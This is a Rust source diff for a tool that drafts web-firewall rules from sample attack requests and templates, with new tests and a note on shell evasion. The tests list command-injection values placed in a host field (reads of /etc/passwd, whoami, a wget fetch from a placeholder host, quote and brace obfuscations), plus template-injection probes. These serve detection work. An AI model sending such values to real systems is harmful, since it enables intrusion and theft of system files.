@@ -8,6 +8,7 @@ use super::shape::{Finder, SHAPES};
 use crate::cli::console::{colour, complain, say};
 use crate::cli::ftw::{InProcess, Selection, run_native};
 use crate::cli::source::{self, Source, SourceRequest};
+use crate::cli::template::UNKNOWN;
 use crate::cli::{PatchCommand, PatchNewArgs};
 use crate::compile::{EMBEDDED, Input, load};
 use crate::engine::NoWorld;
@@ -117,10 +118,21 @@ fn look(
         let beside = found.filter(|(_, other, part)| *other == at && matches!(part.place, Place::Name(_)));
         draft.also = beside.map(|(.., part)| part.place).collect();
         draft.shape = Some(&SHAPES[shape]);
+        if !SHAPES[shape].or.is_empty() {
+            draft.open.push(SHELL.to_owned());
+        }
         draft.request = source.requests.get(at).cloned().unwrap_or_default();
         draft.part = Some(part);
     } else {
         without_shape(&mut draft, &source.requests, normal);
+        // What is hostile may well have been in it: to block all requests like this one would be to guess.
+        if let Some(unknown) = draft.open.iter().find(|line| draft.part.is_none() && line.ends_with(UNKNOWN))
+        {
+            return Err(format!(
+                "nothing hostile was found, but {unknown}; write what it stands for into the template, or give the \
+                 request itself"
+            ));
+        }
     }
     let place = draft.part.as_ref().map(|part| part.place.clone());
     strip(&mut draft.request, place.as_ref());
@@ -439,6 +451,10 @@ fn told(draft: &Draft, fell: &[String]) -> String {
     out
 }
 
+/// What no pattern settles.
+const SHELL: &str = "a shell reads a command in more ways than a pattern knows, and this one knows common commands: where \
+                     ordinary values are alike (numbers, names of hosts), a pattern for them, `!@rx \\A[a-z0-9.-]{1,253}\\z`, \
+                     leaves no way round";
 /// Days after which a new patch is reviewed: it was written in haste.
 const REVIEW_DAYS: i64 = 90;
 /// Values that nobody should be blocked for.
@@ -540,6 +556,48 @@ mod tests {
             assert!(draft.matches.iter().any(|(note, _)| note == "as it was"), "{text}");
             assert!(draft.matches.len() >= 2 && draft.passes.len() >= 3, "{text}: {}", draft.write());
         }
+    }
+
+    #[test]
+    fn a_command_is_found_however_a_shell_lets_it_be_written() {
+        for command in [
+            "1;cat /etc/passwd",
+            "1|whoami",
+            "$(wget http://e/x)",
+            "1;c''at /etc/passwd",
+            "1;{cat,/etc/passwd}",
+        ] {
+            let text = format!("curl http://h/ping -F 'lang=en' -F \"host={}\"", command.replace('$', "\\$"));
+            let (draft, fell) = drafted(&text, "");
+            let written = draft.write();
+            assert_eq!(draft.shape.map(|shape| shape.name), Some("a shell command"), "{command}: {written}");
+            assert!(fell.is_empty(), "{command}: {fell:?}");
+            assert!(written.contains("@detectShell") && written.contains("      - any:\n"), "{written}");
+            assert!(draft.open.iter().any(|line| line == SHELL), "{written}");
+        }
+        let (draft, _) = drafted("curl 'http://h/ping?host=1%3Bcat%20/etc/passwd'", "");
+        for what in
+            ["quotes within the command", "a backslash within the command", "the command by a wildcard"]
+        {
+            assert!(draft.matches.iter().any(|(note, _)| note == what), "{what}: {}", draft.write());
+        }
+        assert!(draft.write().contains("/bin/c%3Ft"), "{}", draft.write());
+    }
+
+    #[test]
+    fn what_a_template_hides_is_not_guessed() {
+        let template = |value: &str| {
+            let text = format!(
+                "id: x\ninfo: {{name: x}}\nhttp:\n  - raw:\n      - |\n        POST /login HTTP/1.1\n        Content-Type: application/x-www-form-urlencoded\n\n        user={value}\n"
+            );
+            let source = source::read(&text).expect("it is sound");
+            look(source, &[], "a-patch".to_owned(), &args())
+        };
+        let draft = template("{{url_encode(\"{{7*7}}\")}}").expect("a draft");
+        assert_eq!(draft.shape.map(|shape| shape.name), Some("a template"), "{}", draft.write());
+        let error = template("{{zlib(\"{{7*7}}\")}}").expect_err("it cannot be worked out");
+        assert!(error.contains("zlib"), "{error}");
+        assert!(template("{{rand_text_alpha(8)}}").is_ok());
     }
 
     #[test]
